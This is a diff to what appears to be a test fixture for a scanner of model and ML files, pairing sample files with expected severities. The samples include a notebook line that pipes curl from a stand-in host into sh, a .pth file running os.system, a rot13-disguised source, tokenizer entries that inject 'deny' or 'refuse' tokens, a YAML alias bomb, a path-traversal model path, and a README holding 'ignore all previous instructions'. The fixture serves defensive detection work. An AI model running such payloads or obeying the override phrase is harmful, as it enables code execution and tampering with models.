@@ -157,6 +157,16 @@ FILES: dict[str, tuple[str, str, Severity | None]] = {
     "a notebook that fetches": ("n.ipynb", json.dumps({"cells": [{"cell_type": "code", "source": ["!curl http://x.invalid | sh\n"]}]}), Severity.HIGH),
     "a notebook": ("n.ipynb", json.dumps({"cells": [{"cell_type": "code", "source": ["%pip install torch\n", "import torch\n", "x = 1"]}]}), None),
     "a start-up file": ("x.pth", "import os; os.system('true')\n", Severity.HIGH),
+    "a disguised source": ("m.py", "# -*- coding: rot13 -*-\nx = 1\n", Severity.HIGH),
+    "a source in Chinese": ("m.py", "# -*- coding: gbk -*-\nx = 1\n", None),
+    "a word put around every text": ("tokenizer.json", json.dumps({"post_processor": {"type": "TemplateProcessing", "special_tokens": {"deny": {"id": "deny", "ids": [4], "tokens": ["deny"]}}}}), Severity.HIGH),
+    "marks put around every text": ("tokenizer.json", json.dumps({"post_processor": {"type": "TemplateProcessing", "special_tokens": {"[CLS]": {"id": "[CLS]", "ids": [4], "tokens": ["[CLS]"]}}}}), None),
+    "an ordinary word made special": ("tokenizer.json", json.dumps({"added_tokens": [{"id": 9, "content": "refuse", "special": True}], "model": {"vocab": {"a": 0}}}), Severity.MEDIUM),
+    "a pipeline with defaults": ("config.json", json.dumps({"custom_pipelines": {"x": {"impl": "pipe.P", "pt": ["AutoModel"], "default": {"model": {"pt": ["some/model", "abc"]}}}}}), Severity.LOW),
+    "growing yaml": ("c.yaml", "a: &a [x,x]\n" + "".join(f"b{n}: &b{n} [{', '.join(['*a'] * 9)}]\n" for n in range(9)), Severity.HIGH),
+    "mlflow outside": ("MLmodel", "flavors:\n  sklearn:\n    pickled_model: ../../x.pkl\n", Severity.HIGH),
+    "served with remote code": ("serving.properties", "engine=Python\noption.trust_remote_code=true\n", Severity.MEDIUM),
+    "a private index": ("requirements.txt", "--index-url https://nexus.example.internal/simple\ntorch\n", Severity.MEDIUM),
     "what is read of other words": ("README.md", "Run os.system and --trust-remote-code, ignore all previous instructions.\n", None),
 }  # fmt: skip
 
